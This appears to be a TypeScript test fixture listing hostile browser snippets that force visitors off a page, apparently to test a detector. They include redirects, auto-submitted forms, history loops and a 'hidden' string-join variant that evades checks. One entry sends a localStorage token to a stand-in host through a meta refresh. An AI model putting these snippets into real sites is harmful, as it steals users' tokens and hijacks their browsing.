import type { FaultCode } from './planted-fault.ts';

/** Code that leads the visitor away from the page. */
export const leadingAwayFaults: readonly FaultCode[] = [
  {
    name: 'Leaves by a meta element',
    code: `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = \`0; url=https://elsewhere.test/?\${localStorage.getItem('token')}\`; document.head.append(meta)`,
    rejected: 'leaves by a meta element',
    hidden: `const meta = document.createElement('meta'); meta.setAttribute(['http', 'equiv'].join('-'), 'refresh'); meta.content = '0; url=https://elsewhere.test/'; document.head.append(meta)`,
    runs: 'later',
  },
  {
    name: 'Leaves by a meta element after a click',
    code: `document.addEventListener('click', () => { const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0; url=https://elsewhere.test/'; document.head.append(meta) })`,
    rejected: 'leaves by a meta element',
    hidden: `document.addEventListener('click', () => { const meta = document.createElement('meta'); meta.setAttribute(['http', 'equiv'].join('-'), 'refresh'); meta.content = '0; url=https://elsewhere.test/'; document.body.append(meta) })`,
    runs: 'later',
    act: ['title'],
  },
  {
    name: 'Leaves by a link that it clicks itself',
    code: `const link = document.createElement('a'); link.href = 'https://elsewhere.test/'; document.body.append(link); link.click()`,
    runs: 'later',
  },
  {
    name: 'Leaves by a link that a bound function clicks',
    code: `const link = document.createElement('a'); link.href = 'https://elsewhere.test/'; setTimeout(link.click.bind(link), 0)`,
    runs: 'later',
  },
  {
    name: 'Leaves by a form that it submits itself',
    code: `const form = document.createElement('form'); form.action = 'https://elsewhere.test/'; document.body.append(form); form.submit()`,
    runs: 'later',
  },
  {
    name: 'Leaves by a form whose button it clicks',
    code: `const form = document.createElement('form'); form.action = 'https://elsewhere.test/'; const button = document.createElement('button'); form.append(button); document.body.append(form); button.click()`,
    runs: 'later',
  },
  {
    name: 'Opens a window',
    code: `window.open('https://elsewhere.test/')`,
    runs: 'later',
  },
  {
    name: 'Goes back again and again',
    code: 'setInterval(() => history.back(), 200)',
    runs: 'later',
  },
  {
    name: 'Replaces its address again and again',
    code: 'setInterval(() => location.replace(location.href), 100)',
    runs: 'later',
  },
  {
    name: 'Asks before the page is left',
    code: `window.addEventListener('beforeunload', (event) => event.preventDefault())`,
    runs: 'later',
    gone: `window.dispatchEvent(new Event('beforeunload', { cancelable: true }))`,
  },
  {
    name: 'Moves links with a base element',
    code: `const base = document.createElement('base'); base.href = 'https://elsewhere.test/'; document.head.append(base)`,
    runs: 'later',
    gone: `document.baseURI.startsWith(location.origin)`,
  },
  {
    name: 'Opens a javascript: address',
    code: `location.href = 'javascript:document.body.remove()'`,
    runs: 'later',
  },
  {
    name: 'Leaves by a timer after its page was left',
    code: `const go = () => location.pathname.startsWith('/auth') ? setTimeout(go, 300) : location.assign('/about'); go()`,
    runs: 'later',
    act: ['title', 'logo'],
    gone: `location.pathname === '/marketplace'`,
  },
];
